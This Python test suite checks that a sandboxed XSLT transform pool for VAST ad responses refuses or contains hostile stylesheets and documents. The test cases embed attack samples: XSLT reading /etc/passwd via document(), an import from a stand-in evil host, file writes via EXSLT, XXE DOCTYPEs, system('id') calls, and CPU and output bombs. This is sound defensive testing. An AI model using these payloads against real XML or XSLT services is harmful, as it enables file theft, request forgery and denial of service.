"""User XSLT transforms (`ad_configuration_transforms`) in their sandbox: proxy/playback/transform*.py.

Every attack of ../shared/testdata/ads/synthetic/attacks/ ends as its listed result (SOURCES.md), checked at each
layer (OWASP XXE Prevention Cheat Sheet; lxml "I/O access control in XSLT"): refused by `compile_check`; if it got past
that, stopped by the hardened parser and XSLTAccessControl; if it got past those too, unable to open a file or a socket
in the worker's sealed sandbox. Canaries (a secret file, a file that must not be written, a TCP listener that must
receive no connection) prove nothing leaked, and a positive control (the same attacks with lxml's defaults, outside the
sandbox) proves the canaries would have caught a leak. After every attack the pool still serves.
"""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import socket
import statistics
import time
from collections.abc import Callable, Iterator
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import pytest
from lxml import etree

from proxy.ads.errors import AdParseError
from proxy.ads.xslt import (
    MiB,
    TransformSpec,
    _deny_all_access,
    _hardened_parser,
    check_xpath,
    compile_check,
    specs_from_config,
)
from proxy.errors import AdResponseError, BadRequest
from proxy.playback.transform_worker import _enter_sandbox
from proxy.playback.transforms import TransformPool

DATA = Path(__file__).parents[1] / "data"
XSLT_DIR = DATA / "xslt"
XSL = 'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"'
BENIGN = (XSLT_DIR / "xslt_benign_rewrite_mediafile_host.xsl").read_text()
IDENTITY = (
    f'<xsl:stylesheet version="1.0" {XSL}><xsl:template match="@*|node()">'
    '<xsl:copy><xsl:apply-templates select="@*|node()"/></xsl:copy></xsl:template></xsl:stylesheet>'
)
# The example of the Brightcove Live API document (ad_configuration_transforms), verbatim.
SEED_XSLT = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:Det="http://Det.com">'
    '<xsl:output omit-xml-declaration="yes"/><xsl:template match="node()|@*"><xsl:copy>'
    '<xsl:apply-templates select="node()|@*"/></xsl:copy></xsl:template></xsl:stylesheet>'
)
# Exponential recursion that outputs nothing: CPU only, for the wall-clock kill.
CPU_BOMB = f"""<xsl:stylesheet version="1.0" {XSL}>
  <xsl:template match="/"><r><xsl:call-template name="d"><xsl:with-param name="n" select="60"/></xsl:call-template></r>
  </xsl:template>
  <xsl:template name="d"><xsl:param name="n"/><xsl:if test="$n &gt; 0">
    <xsl:call-template name="d"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template>
    <xsl:call-template name="d"><xsl:with-param name="n" select="$n - 1"/></xsl:call-template></xsl:if></xsl:template>
</xsl:stylesheet>"""

VAST3 = b"""<?xml version="1.0" encoding="UTF-8"?>
<VAST version="3.0"><Ad id="a1"><InLine><AdSystem>T</AdSystem><AdTitle>t</AdTitle>
<Impression><![CDATA[https://track.example.com/imp]]></Impression>
<Creatives><Creative><Linear><Duration>00:00:10</Duration><MediaFiles>
<MediaFile delivery="streaming" type="application/x-mpegURL"><![CDATA[https://cdn.example.com/ad/master.m3u8]]></MediaFile>
<MediaFile delivery="progressive" type="application/javascript" apiFramework="VPAID"><![CDATA[https://cdn.example.com/v.js]]></MediaFile>
<MediaFile delivery="progressive" type="video/mp4"><![CDATA[https://other.example.org/ad.mp4]]></MediaFile>
</MediaFiles></Linear></Creative></Creatives></InLine></Ad></VAST>"""
EMPTY_VAST = b'<VAST version="3.0"/>'

TIMEOUT = 1.0  # the pools' per-job limit in these tests
ROOMY = 60.0  # the limit where a test expects another failure than the time limit (a loaded machine is slow)


def shared_attacks() -> Path:
    from tests.conftest import sample_dir  # imported here: sandbox probes import this module in a worker

    return sample_dir("ads", "synthetic", "attacks")


@pytest.fixture(scope="module")
def attack_pool() -> Iterator[TransformPool]:
    with TransformPool(1, timeout=ROOMY, memory_limit=128 * MiB) as transform_pool:
        yield transform_pool


@pytest.fixture(scope="module")
def pool() -> Iterator[TransformPool]:
    with TransformPool(1, timeout=TIMEOUT, memory_limit=128 * MiB) as transform_pool:
        yield transform_pool


def run(pool: TransformPool, xslt: str, document: bytes = VAST3, xpath: str = "/") -> bytes:
    return pool.run([TransformSpec(xslt, xpath)], document)


def assert_still_serving(pool: TransformPool) -> None:
    out = run(pool, BENIGN)
    assert b"https://edge.example.net/ad/master.m3u8" in out


def media_files(document: bytes) -> list[str]:
    root = etree.fromstring(document)
    return [(element.text or "").strip() for element in root.iter("{*}MediaFile")]


# --- the benign transform and xpath selection -------------------------------------------------------------------


def test_benign_transform_rewrites_the_mediafile_host_and_drops_vpaid(pool: TransformPool) -> None:
    out = run(pool, BENIGN)
    assert media_files(out) == ["https://edge.example.net/ad/master.m3u8", "https://other.example.org/ad.mp4"]
    assert b"<![CDATA[https://edge.example.net/ad/master.m3u8]]>" in out  # cdata-section-elements kept
    assert b"<![CDATA[https://track.example.com/imp]]>" in out


def test_benign_transform_on_a_namespaced_vast4(pool: TransformPool) -> None:
    document = (DATA / "vast" / "pod_vast4_ns.xml").read_bytes()
    out = run(pool, BENIGN, document)
    assert etree.fromstring(out).tag == "{http://www.iab.com/VAST}VAST"
    assert media_files(out) and all(url.startswith("https://edge.example.net/") for url in media_files(out))
    assert b"<![CDATA[https://edge.example.net/" in out


def test_the_shared_benign_transform_is_the_copy_in_tests_data() -> None:
    shared = shared_attacks().parent / "xslt_benign_rewrite_mediafile_host.xsl"
    assert shared.read_text() == BENIGN


async def test_apply_from_asyncio(pool: TransformPool) -> None:
    out = await pool.apply(TransformSpec(BENIGN), VAST3)
    assert b"edge.example.net" in out
    seed = await pool.apply(TransformSpec(SEED_XSLT, "/"), VAST3)
    assert etree.fromstring(seed).get("version") == "3.0" and not seed.startswith(b"<?xml")


@pytest.mark.parametrize(
    ("xpath", "document", "applies"),
    [
        ("/", VAST3, True),
        ("/", EMPTY_VAST, True),
        ("/VAST[Ad]", VAST3, True),
        ("/VAST[Ad]", EMPTY_VAST, False),
        ("//*[local-name()='MediaFile'][contains(., 'cdn.example.com')]", VAST3, True),
        ("count(//MediaFile) > 5", VAST3, False),
        ("count(//MediaFile) = 3", VAST3, True),
        ("/VAST/@version = '4.0'", VAST3, False),
        ("string(/VAST/@version)", VAST3, True),
        ("string(/VAST/@missing)", VAST3, False),
        ("/Foo", VAST3, False),
    ],
)
def test_the_transform_applies_only_when_its_xpath_matches(
    pool: TransformPool, xpath: str, document: bytes, applies: bool
) -> None:
    marker = (
        f'<xsl:stylesheet version="1.0" {XSL}><xsl:template match="/">'
        '<VAST version="9.9"><Transformed/></VAST></xsl:template></xsl:stylesheet>'
    )
    out = run(pool, marker, document, xpath)
    if applies:
        assert b"<Transformed/>" in out
    else:
        assert out == document  # untouched, byte for byte


def test_transforms_apply_in_order_each_selected_on_the_previous_output(pool: TransformPool) -> None:
    first = (
        f'<xsl:stylesheet version="1.0" {XSL}><xsl:template match="/">'
        '<VAST version="3.0"><Step1/></VAST></xsl:template></xsl:stylesheet>'
    )
    second = (
        f'<xsl:stylesheet version="1.0" {XSL}><xsl:template match="/">'
        '<VAST version="3.0"><Step2/></VAST></xsl:template></xsl:stylesheet>'
    )
    specs = [TransformSpec(first, "/VAST[Ad]"), TransformSpec(second, "/VAST[Step1]")]
    assert b"<Step2/>" in pool.run(specs, VAST3)
    assert pool.run(specs, EMPTY_VAST) == EMPTY_VAST  # the first does not apply, so neither does the second
    assert pool.run([], VAST3) == VAST3


def test_configuration_from_the_seed_json() -> None:
    specs = specs_from_config([{"xpath": "/", "xslt": SEED_XSLT}])
    assert specs == (TransformSpec(SEED_XSLT, "/"),)
    assert specs_from_config(None) == () and specs_from_config([]) == ()
    with pytest.raises(BadRequest, match=r"ad_configuration_transforms\[1\]\.xslt: transform refused: .*xsl:include"):
        specs_from_config(
            [
                {"xpath": "/", "xslt": SEED_XSLT},
                {"xpath": "/", "xslt": (XSLT_DIR / "xslt_include_local_file.xsl").read_text()},
            ]
        )
    with pytest.raises(BadRequest, match=r"\[0\]\.xpath: .*re:test\(\)"):
        specs_from_config([{"xpath": "re:test(., 'a')", "xslt": SEED_XSLT}])
    with pytest.raises(BadRequest, match="unknown keys"):
        specs_from_config([{"xpath": "/", "xslt": SEED_XSLT, "xsl": ""}])
    with pytest.raises(BadRequest, match=r"\[0\]\.xslt: None: expected the stylesheet as a string"):
        specs_from_config([{"xpath": "/"}])
    with pytest.raises(BadRequest, match="expected a list"):
        specs_from_config({"xpath": "/"})


# --- compile_check: the static layer ----------------------------------------------------------------------------


def sheet(body: str, namespaces: str = "", root_attributes: str = "") -> str:
    return f'<xsl:stylesheet version="1.0" {XSL} {namespaces} {root_attributes}>{body}</xsl:stylesheet>'


def template(body: str, namespaces: str = "") -> str:
    return sheet(f'<xsl:template match="/">{body}</xsl:template>', namespaces)


REFUSED = {
    "include": (sheet('<xsl:include href="other.xsl"/>'), "xsl:include"),
    "import": (sheet('<xsl:import href="https://evil.example/x.xsl"/>'), "xsl:import"),
    "document()": (template("<xsl:copy-of select=\"document('/etc/passwd')\"/>"), "document()"),
    "document() in an AVT": (template("<a href=\"{document('x')}\"/>"), "document()"),
    "document() after a minus": (template("<xsl:value-of select=\"1-document('x')\"/>"), "document()"),
    "exsl namespace": (sheet("", 'xmlns:exsl="http://exslt.org/common"'), "EXSLT common"),
    "str namespace": (sheet("", 'xmlns:str="http://exslt.org/strings"'), "EXSLT strings"),
    "regexp namespace": (sheet("", 'xmlns:re="http://exslt.org/regular-expressions"'), "regular expressions"),
    "dyn:evaluate": (sheet("", 'xmlns:dyn="http://exslt.org/dynamic"'), "EXSLT dynamic"),
    "saxon": (sheet("", 'xmlns:saxon="http://saxon.sf.net/"'), "Saxon"),
    "php": (sheet("", 'xmlns:php="http://php.net/xsl"'), "PHP"),
    "msxsl script": (sheet("", 'xmlns:msxsl="urn:schemas-microsoft-com:xslt"'), "MSXSL"),
    "extension-element-prefixes": (
        sheet("", 'xmlns:x="urn:x"', 'extension-element-prefixes="x"'),
        "extension-element-prefixes",
    ),
    "xsl:extension-element-prefixes on a literal element": (
        template('<r xsl:extension-element-prefixes="x"/>', 'xmlns:x="urn:x"'),
        "extension-element-prefixes",
    ),
    "extension function": (
        template("<xsl:value-of select=\"x:run('id')\"/>", 'xmlns:x="urn:x"'),
        "extension function x:run()",
    ),
    "unknown function": (template("<xsl:value-of select=\"system('id')\"/>"), "function system()"),
    "xsl:document": (template('<xsl:document href="/tmp/x">x</xsl:document>'), "xsl:document"),
    "xsl:result-document": (template('<xsl:result-document href="x"/>'), "xsl:result-document"),
    "xsl:message terminate": (template('<xsl:message terminate="yes">stop</xsl:message>'), "terminate"),
    "xsl:output doctype": (sheet('<xsl:output doctype-system="file:///etc/passwd"/>'), "doctype-system"),
    "xinclude": (sheet('<xi:include href="/etc/passwd"/>', 'xmlns:xi="http://www.w3.org/2001/XInclude"'), "XInclude"),
    "DOCTYPE": ('<!DOCTYPE xsl:stylesheet [<!ENTITY e "x">]>' + sheet(""), "DOCTYPE"),
    "DOCTYPE after a comment": (
        "<?xml version='1.0'?><!-- c --><!DOCTYPE x SYSTEM 'file:///etc/passwd'>" + sheet(""),
        "DOCTYPE",
    ),
    "not well-formed": (sheet("<xsl:template>"), "not well-formed"),
    "not a stylesheet": ("<VAST/>", "expected xsl:stylesheet"),
    "simplified stylesheet": (f'<VAST xsl:version="1.0" {XSL}/>', "expected xsl:stylesheet"),
    "too big": (sheet("<!--" + "x" * 300_000 + "-->"), "expected at most"),
    "does not compile": (sheet('<xsl:template match="["/>'), "does not compile"),
}


@pytest.mark.parametrize("name", list(REFUSED))
def test_compile_check_refuses(name: str) -> None:
    xslt, expected = REFUSED[name]
    with pytest.raises(BadRequest, match="transform refused") as caught:
        compile_check(xslt)
    assert expected in caught.value.message
    assert caught.value.status_code == 400


@pytest.mark.parametrize(
    "xslt",
    [
        BENIGN,
        SEED_XSLT,
        IDENTITY,
        sheet(
            '<xsl:key name="k" match="Ad" use="@id"/>'
            '<xsl:template match="/"><out n="{count(key(\'k\', \'a1\'))}" l="{{literal}}">'
            "<xsl:value-of select=\"format-number(count(child::node()), '0')\"/>"
            '<xsl:if test="true() and (1 = 1) or not(false())"><xsl:text>ok</xsl:text></xsl:if>'
            "<xsl:value-of select=\"concat('document(', 'x:y()', ')')\"/>"
            '<xsl:value-of select="generate-id(.)"/><xsl:value-of select="system-property(\'xsl:vendor\')"/>'
            '<xsl:message terminate="no">debug</xsl:message>'
            "</out></xsl:template>"
        ),
    ],
    ids=["benign", "seed", "identity", "functions"],
)
def test_compile_check_accepts(xslt: str) -> None:
    compile_check(xslt)


@pytest.mark.parametrize("xpath", ["/", "/VAST[Ad]", "count(//Ad) > 1", "//*[local-name()='MediaFile']", "boolean(/)"])
def test_check_xpath_accepts(xpath: str) -> None:
    check_xpath(xpath)


@pytest.mark.parametrize(
    ("xpath", "expected"),
    [
        ("", "empty"),
        ("document('x')", "document()"),
        ("re:test(., 'a+')", "extension function re:test()"),
        ("//[", "not a usable XPath"),
        ("/v:VAST", "not a usable XPath"),  # an unbound prefix
        ("/" * 5000, "expected at most"),
    ],
)
def test_check_xpath_refuses(xpath: str, expected: str) -> None:
    with pytest.raises(BadRequest, match="transform refused") as caught:
        check_xpath(xpath)
    assert expected in caught.value.message


# --- the shared attack fixtures ---------------------------------------------------------------------------------

# SOURCES.md "Synthetic fixtures": what each attack ends as here.
STYLESHEET_ATTACKS = {
    "xslt_document_file_read.xsl": ("refused", "document()"),
    "xslt_document_network.xsl": ("refused", "document()"),
    "xslt_exsl_document_write.xsl": ("refused", "http://exslt.org/common"),
    "xslt_exslt_regexp.xsl": ("refused", "http://exslt.org/regular-expressions"),
    "xslt_import_network.xsl": ("refused", "xsl:import"),
    "xslt_include_local_file.xsl": ("refused", "xsl:include"),
    "xslt_unknown_extension_function.xsl": ("refused", "extension function py:system()"),
    "xslt_xxe_in_stylesheet.xsl": ("refused", "DOCTYPE"),
    "xslt_infinite_recursion.xsl": ("failed", "XSLT error"),  # libxslt's template depth limit
    "xslt_output_bomb.xsl": ("failed", "output is 1441808 bytes: expected at most 1048576"),
}
DOCUMENT_ATTACKS = {
    "billion_laughs.xml": "DOCTYPE",
    "quadratic_blowup.xml": "DOCTYPE",
    "xxe_local_file.xml": "DOCTYPE",
    "xxe_network_ssrf.xml": "DOCTYPE",
    "xxe_parameter_entity_dtd.xml": "DOCTYPE",
    "external_dtd.xml": "DOCTYPE",
    "deep_nesting_1000.xml": "Excessive depth in document: 256",
}


def test_every_shared_attack_has_an_expected_result() -> None:
    listed = set(STYLESHEET_ATTACKS) | set(DOCUMENT_ATTACKS)
    assert {path.name for path in shared_attacks().iterdir()} == listed


def check_stylesheet_attack(pool: TransformPool, name: str, xslt: str) -> None:
    outcome, expected = STYLESHEET_ATTACKS[name]
    if outcome == "refused":
        with pytest.raises(BadRequest) as refused:
            compile_check(xslt)
        assert expected in refused.value.message
    else:
        compile_check(xslt)
    with pytest.raises(AdResponseError) as failed:  # the worker checks again: a spec may skip compile_check
        run(pool, xslt)
    assert failed.value.skip_reason == "TRANSFORM_FAILED"
    assert expected in failed.value.message
    assert_still_serving(pool)


@pytest.mark.parametrize("name", sorted(STYLESHEET_ATTACKS))
def test_shared_stylesheet_attack(attack_pool: TransformPool, name: str, tmp_path: Path) -> None:
    pwned = Path("/tmp/pwned-by-xslt.txt")  # the absolute path xslt_exsl_document_write.xsl writes
    existed = pwned.exists()
    check_stylesheet_attack(attack_pool, name, (shared_attacks() / name).read_text())
    assert existed or not pwned.exists()


@pytest.mark.parametrize("name", sorted(path.name for path in XSLT_DIR.glob("xslt_*.xsl") if "benign" not in path.name))
def test_local_copy_of_stylesheet_attack(attack_pool: TransformPool, name: str) -> None:
    check_stylesheet_attack(attack_pool, name, (XSLT_DIR / name).read_text())


@pytest.mark.parametrize("name", sorted(DOCUMENT_ATTACKS))
def test_shared_document_attack(pool: TransformPool, name: str) -> None:
    document = (shared_attacks() / name).read_bytes()
    with pytest.raises(AdResponseError) as refused:
        run(pool, BENIGN, document)
    assert refused.value.skip_reason == "VAST_PARSING_ERROR"
    assert DOCUMENT_ATTACKS[name] in refused.value.message
    assert_still_serving(pool)


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (b'<!DOCTYPE VAST [<!ENTITY a "aaaa">]><VAST>&a;&a;</VAST>', "DOCTYPE"),
        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE VAST><VAST/>'.encode("utf-16"), "DOCTYPE"),
        (b"<VAST>&xxe;</VAST>", "Entity 'xxe' not defined"),  # libxml2's words, whoever reports them
        (b"<VAST><Ad></VAST>", "Opening and ending tag mismatch"),
        (b"<a>" * 300 + b"</a>" * 300, "Excessive depth"),
        (b"{ vast: null }", "Start tag expected"),
    ],
    ids=["internal-entities", "utf16-doctype", "undeclared-entity", "mismatched", "depth-300", "not-xml"],
)
def test_documents_refused_by_the_hardened_parser(pool: TransformPool, document: bytes, expected: str) -> None:
    with pytest.raises(AdParseError) as refused:
        run(pool, IDENTITY, document)
    assert refused.value.skip_reason == "VAST_PARSING_ERROR" and refused.value.code == 100
    assert expected in refused.value.message


def test_an_oversize_document_is_refused_before_any_work(pool: TransformPool) -> None:
    started = pool.workers_started
    document = b"<VAST>" + b" " * pool.max_document_bytes + b"</VAST>"
    with pytest.raises(AdResponseError, match=r"VAST_PARSING_ERROR: ad response is \d+ bytes: expected at most"):
        run(pool, IDENTITY, document)
    assert pool.workers_started == started


# --- limits: time, memory, output -------------------------------------------------------------------------------


async def test_a_cpu_bomb_is_killed_at_the_time_limit_without_blocking_the_loop(pool: TransformPool) -> None:
    ticks = 0

    async def ticker() -> None:
        nonlocal ticks
        while True:
            await asyncio.sleep(0.01)
            ticks += 1

    killed = pool.workers_killed
    task = asyncio.create_task(ticker())
    started = time.monotonic()
    with pytest.raises(AdResponseError, match="ran longer than its 1 s limit: worker killed and replaced"):
        await pool.apply(TransformSpec(CPU_BOMB), VAST3)
    elapsed = time.monotonic() - started
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert TIMEOUT <= elapsed  # killed at its limit, not before (how long after depends on the machine's load)
    assert ticks > 20  # the event loop kept running meanwhile
    assert pool.workers_killed == killed + 1
    assert_still_serving(pool)


def test_an_output_bomb_too_big_for_memory_fails_within_the_time_limit(pool: TransformPool) -> None:
    bomb = (XSLT_DIR / "xslt_output_bomb.xsl").read_text().replace('select="18"', 'select="40"')
    compile_check(bomb)
    with pytest.raises(AdResponseError) as failed:  # the memory limit or the time limit, whichever comes first
        run(pool, bomb)
    assert failed.value.skip_reason == "TRANSFORM_FAILED"
    assert_still_serving(pool)


def test_the_output_limit() -> None:
    with TransformPool(1, max_output_bytes=400) as small:
        with pytest.raises(AdResponseError, match="output is [0-9]+ bytes: expected at most 400"):
            run(small, IDENTITY)
        assert run(small, IDENTITY, EMPTY_VAST).endswith(b'<VAST version="3.0"/>\n')


def test_a_worker_killed_during_a_job_fails_that_job_and_is_replaced(pool: TransformPool) -> None:
    import threading

    def kill_busy_worker() -> None:
        deadline = time.monotonic() + 5
        while not pool._busy and time.monotonic() < deadline:
            time.sleep(0.01)
        time.sleep(0.1)
        for worker in list(pool._busy):
            worker.process.kill()

    killer = threading.Thread(target=kill_busy_worker)
    killer.start()
    with pytest.raises(
        AdResponseError, match="TRANSFORM_FAILED: the worker was killed by SIGKILL during the transform"
    ):
        run(pool, CPU_BOMB)
    killer.join()
    assert_still_serving(pool)


def test_a_worker_killed_while_idle_is_replaced_and_the_job_runs(pool: TransformPool) -> None:
    assert_still_serving(pool)
    idle = pool._idle.get()
    assert idle is not None
    idle.process.kill()
    idle.process.join()
    pool._idle.put(idle)
    assert_still_serving(pool)


def test_a_worker_is_replaced_after_max_jobs_per_worker() -> None:
    with TransformPool(1, max_jobs_per_worker=2) as recycling:
        for _ in range(5):
            assert_still_serving(recycling)
        assert recycling.workers_started == 3 and recycling.workers_killed == 0


async def test_concurrent_jobs_on_two_workers() -> None:
    with TransformPool(2, timeout=5.0) as two:
        outputs = await asyncio.gather(*(two.apply(TransformSpec(BENIGN), VAST3) for _ in range(12)))
        assert all(b"edge.example.net" in out for out in outputs)
        assert two.workers_started == 2


def test_benign_latency_through_the_pool(pool: TransformPool) -> None:
    assert_still_serving(pool)
    timings = []
    for _ in range(50):
        started = time.perf_counter()
        run(pool, BENIGN)
        timings.append(time.perf_counter() - started)
    median = statistics.median(timings)
    print(f"benign transform through the pool: median {median * 1000:.2f} ms over 50 jobs")
    assert median < 0.05


def test_closing_the_pool() -> None:
    closing = TransformPool(1)
    run(closing, IDENTITY)
    worker = closing._idle.get()
    closing._idle.put(worker)
    assert worker is not None
    pid = worker.process.pid
    assert pid is not None
    closing.close()
    closing.close()
    assert closing.closed and worker.conn.closed
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)
    with pytest.raises(AdResponseError, match="TRANSFORM_FAILED: the transform pool is closed"):
        run(closing, IDENTITY)


def test_pool_arguments() -> None:
    with pytest.raises(ValueError, match="expected 'forkserver' or 'spawn'"):
        TransformPool(1, start_method="fork")
    with pytest.raises(ValueError, match="expected at least 1 worker"):
        TransformPool(0)
    with pytest.raises(ValueError, match="expected a positive number of seconds"):
        TransformPool(1, timeout=0)


def test_spawn_workers() -> None:
    with TransformPool(1, start_method="spawn", timeout=5.0) as spawned:
        assert b"edge.example.net" in run(spawned, BENIGN)


# --- defence in depth: each layer alone stops the I/O attacks ---------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A local TCP listener that must receive no connection (the kernel would queue one even without accept)."""
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(16)
    server.setblocking(False)
    yield server
    server.close()


def assert_no_connection(server: socket.socket) -> None:
    with pytest.raises(BlockingIOError):
        connection, _ = server.accept()
        connection.close()


class Canaries:
    def __init__(self, tmp_path: Path, port: int) -> None:
        self.secret = f"canary-{os.getpid()}-{time.monotonic_ns()}"
        self.secret_file = tmp_path / "secret.xml"
        self.secret_file.write_text(f"<secret>{self.secret}</secret>")
        self.included = tmp_path / "included.xsl"
        self.included.write_text(sheet(f'<xsl:template match="/"><leak>{self.secret}</leak></xsl:template>'))
        self.written = tmp_path / "pwned.txt"
        self.port = port

    def attacks(self) -> dict[str, str]:
        url = f"http://127.0.0.1:{self.port}"
        copy = '<xsl:template match="/"><VAST><xsl:copy-of select="{}"/></VAST></xsl:template>'
        return {
            "document-file": sheet(copy.format(f"document('file://{self.secret_file}')")),
            "document-network": sheet(copy.format(f"document('{url}/internal')")),
            "exsl-write": sheet(
                f'<xsl:template match="/"><exsl:document href="{self.written}" method="text">PWNED</exsl:document>'
                "<VAST/></xsl:template>",
                'xmlns:exsl="http://exslt.org/common" extension-element-prefixes="exsl"',
            ),
            "include-file": sheet(f'<xsl:include href="file://{self.included}"/>'),
            "import-network": sheet(f'<xsl:import href="{url}/evil.xsl"/>'),
        }

    def assert_nothing_leaked(self, outputs: dict[str, str], server: socket.socket) -> None:
        for name, output in outputs.items():
            assert self.secret not in output, f"{name} read the secret: {output}"
        assert not self.written.exists()
        assert_no_connection(server)


def attack_with_lxml_defaults(attacks: dict[str, str], sandboxed: bool, conn: Connection) -> None:
    """In a worker process: every attack compiled and run with lxml's DEFAULTS (no access control, default parser),
    inside the sandbox or not. What it returns is each attack's output or error."""
    if sandboxed:
        _enter_sandbox(64 * MiB)
    results: dict[str, str] = {}
    for name, xslt in attacks.items():
        try:
            transform = etree.XSLT(etree.fromstring(xslt.encode()))
            results[name] = "output: " + str(transform(etree.fromstring(b"<VAST/>")))
        except Exception as exc:  # the test reads the outcome, whatever it is
            results[name] = f"error: {type(exc).__name__}: {exc}"
    conn.send(results)


def run_attacks_in_process(attacks: dict[str, str], sandboxed: bool) -> dict[str, str]:
    context: Any = multiprocessing.get_context("forkserver")
    parent_end, child_end = context.Pipe()
    process = context.Process(target=attack_with_lxml_defaults, args=(attacks, sandboxed, child_end))
    process.start()
    child_end.close()
    try:
        assert parent_end.poll(30), "the attack process did not answer"
        results: dict[str, str] = parent_end.recv()
    finally:
        process.join(5)
        if process.is_alive():
            process.kill()
            process.join()
        parent_end.close()
        process.close()
    return results


def test_layer_1_compile_check_refuses_every_io_attack(
    tmp_path: Path, listener: socket.socket, pool: TransformPool
) -> None:
    canaries = Canaries(tmp_path, listener.getsockname()[1])
    for xslt in canaries.attacks().values():
        with pytest.raises(BadRequest):
            compile_check(xslt)
        with pytest.raises(AdResponseError, match="TRANSFORM_FAILED: transform 0 refused"):
            run(pool, xslt)
    canaries.assert_nothing_leaked({}, listener)


def test_layer_2_hardened_parser_and_access_control_stop_every_io_attack(
    tmp_path: Path, listener: socket.socket
) -> None:
    """Without the static checks: the stylesheet parsed by the hardened parser (deny-all resolver) and compiled
    with every XSLTAccessControl right denied, in this very process."""
    canaries = Canaries(tmp_path, listener.getsockname()[1])
    outputs: dict[str, str] = {}
    for name, xslt in canaries.attacks().items():
        with pytest.raises((etree.XSLTParseError, etree.XSLTApplyError, PermissionError)) as stopped:
            parsed = etree.fromstring(xslt.encode(), _hardened_parser())
            transform = etree.XSLT(parsed, access_control=_deny_all_access(), regexp=False)
            outputs[name] = str(transform(etree.fromstring(b"<VAST/>")))
        outputs[name] = str(stopped.value)
    assert "read rights for file://" in outputs["document-file"]
    assert "write rights for" in outputs["exsl-write"]
    canaries.assert_nothing_leaked(outputs, listener)


def test_layer_3_the_sealed_sandbox_stops_every_io_attack_even_with_lxml_defaults(
    tmp_path: Path, listener: socket.socket
) -> None:
    canaries = Canaries(tmp_path, listener.getsockname()[1])
    attacks = canaries.attacks()
    outputs = run_attacks_in_process(attacks, sandboxed=True)
    assert set(outputs) == set(attacks)
    canaries.assert_nothing_leaked(outputs, listener)


def test_positive_control_lxml_defaults_outside_the_sandbox_do_leak(tmp_path: Path, listener: socket.socket) -> None:
    """The canaries work: with lxml's defaults and no sandbox, the file attacks read and write (lxml docs)."""
    canaries = Canaries(tmp_path, listener.getsockname()[1])
    attacks = canaries.attacks()
    outputs = run_attacks_in_process(
        {name: attacks[name] for name in ("document-file", "exsl-write", "include-file")}, False
    )
    assert canaries.secret in outputs["document-file"]
    assert canaries.secret in outputs["include-file"]
    assert canaries.written.read_text() == "PWNED"


def probe_sandbox(conn: Connection) -> None:
    _enter_sandbox(64 * MiB)
    results: dict[str, object] = {}
    probes: dict[str, Callable[[], object]] = {
        "open-read": lambda: open(__file__, "rb"),
        "open-write": lambda: open(os.devnull, "wb"),
        "socket": lambda: socket.socket(),
        "pipe": lambda: os.pipe(),
    }
    for name, probe in probes.items():
        try:
            probe()
            results[name] = "opened"
        except OSError as exc:
            results[name] = exc.errno
    try:
        bytearray(256 * MiB)
        results["memory"] = "allocated"
    except MemoryError:
        results["memory"] = "MemoryError"
    conn.send(results)


def test_the_sandbox_cannot_open_descriptors_nor_exceed_its_memory() -> None:
    import errno

    context: Any = multiprocessing.get_context("forkserver")
    parent_end, child_end = context.Pipe()
    process = context.Process(target=probe_sandbox, args=(child_end,))
    process.start()
    child_end.close()
    assert parent_end.poll(30)
    results = parent_end.recv()
    process.join()
    parent_end.close()
    process.close()
    assert results == {
        "open-read": errno.EMFILE,
        "open-write": errno.EMFILE,
        "socket": errno.EMFILE,
        "pipe": errno.EMFILE,
        "memory": "MemoryError",
    }
